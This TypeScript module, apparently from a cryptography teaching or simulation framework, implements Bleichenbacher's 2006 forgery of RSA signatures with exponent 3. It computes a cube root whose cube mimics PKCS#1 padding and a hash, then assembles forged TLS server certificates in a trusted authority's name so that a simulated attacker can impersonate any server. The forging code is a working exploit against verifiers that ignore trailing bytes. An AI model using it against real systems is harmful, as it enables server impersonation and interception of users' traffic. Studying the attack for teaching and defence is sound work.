import { type Bytes, concat } from "../bytes/mod.ts";
import {
  bytesToInteger,
  type CryptoProvider,
  digestInfo,
  generateEcKey,
  integerToBytes,
  type RsaPublicKey,
} from "../crypto/mod.ts";
import {
  algorithmIdentifierOf,
  assembleCertificate,
  type Certificate,
  distinguishedName,
  encodeTbs,
  type Identity,
  keyIdentifierOf,
  makeExtension,
  OIDS,
  parseCertificate,
  shortName,
  subjectPublicKeyInfoOf,
} from "../pki/mod.ts";
import { impersonate } from "./impersonate.ts";
import type { Attack, Position } from "./position.ts";

/** Bytes `ff` at the beginning of the block: as few as verifiers take (RFC 8017 §9.2). */
const PADDING = 8;
const DAY = 86_400;

/** A block that was made to look like one that somebody has signed. */
export interface ForgedBlock {
  /** What verifiers get from the signature, as many bytes as the modulus has. */
  readonly block: Bytes;
  /** Where in it the hash ends; an honest one ends with the block. */
  readonly end: number;
}

/** Impersonation with forged certificates. */
export interface Forgery {
  readonly attack: Attack;
  /** The block of the last certificate she made; `undefined` if none could be made. */
  readonly forged: ForgedBlock | undefined;
}

/**
 * Impersonates whoever is asked for with certificates in the name of an authority whose RSA key has
 * the exponent 3, without its private key: the signature is a cube root (Bleichenbacher, 2006).
 *
 * @param root the authority's certificate, which every trust store has
 * @throws {TypeError} if it has no RSA key
 */
export function forgeCertificates(root: Bytes): Forgery {
  const read = parseCertificate(root);
  const key = read.ok ? read.value.publicKey : undefined;
  if (!read.ok || key?.type !== "rsa") throw new TypeError("Cannot forge: it has no RSA key");
  const issuer = read.value;
  let forged: ForgedBlock | undefined;
  return {
    attack(mallory) {
      const { name } = mallory;
      mallory.note(
        `${name} takes the public key of ${shortName(issuer.subject)}, which is no secret`,
      );
      impersonate((serverName = "") => {
        const disguise = forge(mallory, issuer, key, serverName);
        forged = disguise.forged;
        mallory.note(
          forged === undefined
            ? `${name} knows no way to a number whose power of ${key.exponent} begins as it should, and ` +
              "tries her luck"
            : `${name} takes a root and signs: ${
              forged.block.length - forged.end
            } bytes behind the ` +
              "hash become whatever they become",
        );
        return disguise.identity;
      })(mallory);
    },
    get forged() {
      return forged;
    },
  };
}

function forge(
  { crypto, ambient: { random, now } }: Position,
  issuer: Certificate,
  issuerKey: RsaPublicKey,
  serverName: string,
): { readonly identity: Identity; readonly forged: ForgedBlock | undefined } {
  const key = generateEcKey(crypto, "P-256", random, `key for ${serverName}`);
  const algorithm = algorithmIdentifierOf({ type: "rsa-pkcs1", hash: "SHA-256" });
  const serialNumber = random.bytes("serial number", 16);
  serialNumber[0] = 0x40 | (serialNumber[0]! & 0x3f); // positive, and no zero in front
  const tbs = encodeTbs({
    version: 2,
    serialNumber,
    signature: algorithm,
    issuer: issuer.subject,
    validity: { notBefore: now() - DAY, notAfter: now() + 90 * DAY },
    subject: distinguishedName(["commonName", serverName]),
    subjectPublicKeyInfo: subjectPublicKeyInfoOf(key.publicKey),
    issuerUniqueID: undefined,
    subjectUniqueID: undefined,
    extensions: [
      makeExtension("basicConstraints", { cA: false, pathLenConstraint: undefined }, true),
      makeExtension("keyUsage", ["digitalSignature"], true),
      makeExtension("subjectKeyIdentifier", keyIdentifierOf(key.publicKey, crypto)),
      makeExtension("extendedKeyUsage", [OIDS.serverAuth]),
      makeExtension("authorityKeyIdentifier", {
        keyIdentifier: keyIdentifierOf(issuerKey, crypto),
        authorityCertIssuer: undefined,
        authorityCertSerialNumber: undefined,
      }),
      makeExtension("subjectAltName", [{ type: "dNSName", value: serverName }]),
    ],
  });
  const { signature, forged } = rootSignature(crypto, issuerKey, tbs);
  return { identity: { chain: [assembleCertificate(tbs, algorithm, signature)], key }, forged };
}

/**
 * A number whose power begins like the block of an honest signature: padding, a zero, the hash. What
 * comes behind the hash is not up to her, and there has to be much of it: with the exponent 3, two
 * thirds of the block.
 *
 * @returns the best number there is, and the block if it will do
 */
export function rootSignature(
  crypto: CryptoProvider,
  { modulus, exponent }: RsaPublicKey,
  message: Bytes,
): { readonly signature: Bytes; readonly forged: ForgedBlock | undefined } {
  const length = Math.ceil(bitsOf(modulus) / 8);
  const front = concat(
    Uint8Array.of(0x00, 0x01),
    new Uint8Array(PADDING).fill(0xff),
    Uint8Array.of(0x00),
    digestInfo(crypto.hash("SHA-256"), message),
  );
  const room = BigInt(8 * (length - front.length));
  const least = bytesToInteger(front) << room;
  const root = rootAbove(least, exponent);
  const power = root ** exponent;
  const signature = integerToBytes(root, length);
  if (power >> room !== least >> room) return { signature, forged: undefined };
  // It is smaller than the modulus, so that nothing is taken away from it.
  return { signature, forged: { block: integerToBytes(power, length), end: front.length } };
}

/** The smallest number whose power is not below a value; found by halving. */
function rootAbove(value: bigint, exponent: bigint): bigint {
  let [low, high] = [0n, 1n << (BigInt(bitsOf(value)) / exponent + 1n)];
  while (high - low > 1n) {
    const middle = (low + high) / 2n;
    if (middle ** exponent < value) low = middle;
    else high = middle;
  }
  return high;
}

function bitsOf(value: bigint): number {
  return value.toString(2).length;
}
